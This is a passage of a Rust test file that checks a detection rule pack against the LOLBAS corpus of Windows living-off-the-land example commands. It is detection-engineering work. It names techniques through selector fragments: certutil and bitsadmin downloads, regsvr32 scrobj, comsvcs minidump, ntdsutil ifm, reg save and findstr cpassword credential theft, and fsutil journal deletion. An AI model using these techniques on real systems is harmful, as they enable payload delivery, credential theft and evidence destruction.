            if name.is_empty() {
                name = v.trim().to_string();
            }
        } else if let Some(v) = l.strip_prefix("Command:") {
            out.push((name.clone(), String::new(), fill_lolbas(v.trim().trim_matches(['\'', '"']))));
        } else if let Some(v) = l.strip_prefix("Category:") {
            if let Some(last) = out.last_mut().filter(|c| c.1.is_empty()) {
                last.1 = v.trim().to_string();
            }
        }
    }
    out
}

fn lolbas_base() -> Option<std::path::PathBuf> {
    let base = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpus/lolbas/yml");
    if base.is_dir() {
        Some(base)
    } else {
        eprintln!("skipping: LOLBAS corpus not found at {} (../shared/corpus/lolbas)", base.display());
        None
    }
}

/// LOLBAS's own example commands for the binaries the pack covers, with
/// placeholders filled realistically, are detected.
#[test]
fn lolbas_examples_for_covered_binaries_are_detected() {
    let Some(base) = lolbas_base() else { return };
    // (file, substrings selecting the download/execute/dump examples; a local
    // file copy such as `bitsadmin /addfile c:\a c:\b` is not one)
    let wanted: &[(&str, &[&str])] = &[
        ("OSBinaries/Certutil.yml", &["http", "-decode"]),
        ("OSBinaries/Bitsadmin.yml", &["http", "setnotifycmdline"]),
        ("OSBinaries/Mshta.yml", &["http"]),
        ("OSBinaries/Regsvr32.yml", &["scrobj"]),
        ("OSBinaries/Rundll32.yml", &["javascript:"]),
        ("OSBinaries/Msiexec.yml", &["http"]),
        ("OSBinaries/MpCmdRun.yml", &["-downloadfile"]),
        ("OSBinaries/Certreq.yml", &["-post"]),
        ("OSBinaries/Desktopimgdownldr.yml", &["http"]),
        ("OSBinaries/Reg.yml", &["save"]),
        ("OSBinaries/Esentutl.yml", &["/vss"]),
        ("OSBinaries/Rdrleakdiag.yml", &["fullmemdmp"]),
        ("OSBinaries/Fsutil.yml", &["deletejournal"]),
        ("OSBinaries/FltMC.yml", &["unload"]),
        ("OSBinaries/Findstr.yml", &["cpassword"]),
        ("OSBinaries/Wmic.yml", &["/node:"]),
        ("OSLibraries/comsvcs.yml", &["minidump"]),
        ("OtherMSBinaries/Ntdsutil.yml", &["ifm"]),
        ("OtherMSBinaries/Dsdbutil.yml", &["create"]),
    ];
    let mut s = Scanner::new(rules());
    let mut checked = 0;
    for (file, select) in wanted {
        let text = std::fs::read_to_string(base.join(file)).unwrap_or_else(|e| panic!("{file}: {e}"));
        for (name, _, cmd) in lolbas_commands(&text) {
            let lower = cmd.to_ascii_lowercase();
            if !select.iter().any(|s| lower.contains(s)) {
                continue;
            }
            checked += 1;
            let got = fired(&mut s, &proc(&name, &cmd));
            assert!(!got.is_empty(), "LOLBAS {file} example not detected: {cmd}");
        }
    }
    // Measured: 38 examples selected from these files.
    assert!(checked >= 30, "only {checked} LOLBAS examples selected");
    eprintln!("{checked} selected LOLBAS examples detected");
}

/// Every LOLBAS example command, run through the pack: a coverage report by
/// category, with floors at what the pack reaches today. Most LOLBAS entries
/// (Office opening a URL, compilers, AWL bypasses) are outside this pack's
/// TA18-276B scope.
#[test]
fn lolbas_corpus_coverage_report() {
    let Some(base) = lolbas_base() else { return };
    let mut s = Scanner::new(rules());
    let mut by_category: std::collections::BTreeMap<String, (usize, usize)> = Default::default();
    let mut files = Vec::new();
    for dir in std::fs::read_dir(&base).unwrap().flatten() {
        for f in std::fs::read_dir(dir.path()).into_iter().flatten().flatten() {
            if f.path().extension().is_some_and(|e| e == "yml") {
                files.push(f.path());
            }
        }
    }
    files.sort();
    for path in &files {
        let text = std::fs::read_to_string(path).unwrap();
        for (name, category, cmd) in lolbas_commands(&text) {
            let image = if name.to_ascii_lowercase().ends_with(".exe") { name } else { format!("{name}.exe") };
            let hit = !fired(&mut s, &proc(&image, &cmd)).is_empty();
            let e = by_category.entry(category).or_default();
            e.0 += 1;
            e.1 += usize::from(hit);
        }
    }
    let total: usize = by_category.values().map(|v| v.0).sum();
    let detected: usize = by_category.values().map(|v| v.1).sum();
    eprintln!("LOLBAS examples detected by the built-in pack: {detected} of {total} ({} files)", files.len());
    for (category, (n, hit)) in &by_category {
        eprintln!("  {category:<16} {hit:>3} / {n}");
    }
    let got = |c: &str| by_category.get(c).map_or(0, |v| v.1);
    // Floors a little under the measured figures (53 in all, Download 10, Dump 14).
    assert!(detected >= 50, "{detected} LOLBAS examples detected");
    assert!(got("Download") >= 9, "Download {}", got("Download"));
    assert!(got("Dump") >= 12, "Dump {}", got("Dump"));
}
